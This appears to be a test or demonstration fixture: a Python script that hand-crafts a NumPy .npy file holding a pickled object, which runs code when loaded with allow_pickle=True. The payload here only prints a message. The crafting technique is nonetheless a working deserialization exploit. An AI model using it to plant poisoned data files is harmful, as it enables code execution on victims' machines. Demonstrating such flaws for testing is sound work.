"""
attacks = "Leave an array of objects, whose loading runs code."
promise = "harvest"
layers = []
observed = "ok"
control = "bare"
decode = "array"
naive = "import numpy; numpy.load(trick, allow_pickle=True)"
"""
import pickle


class Evil:
    def __reduce__(self):
        return print, ("GOT code to run",)


header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
header += b" " * (117 - len(header)) + b"\n"
data = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + pickle.dumps(Evil())
open("../out/trick", "wb").write(data)
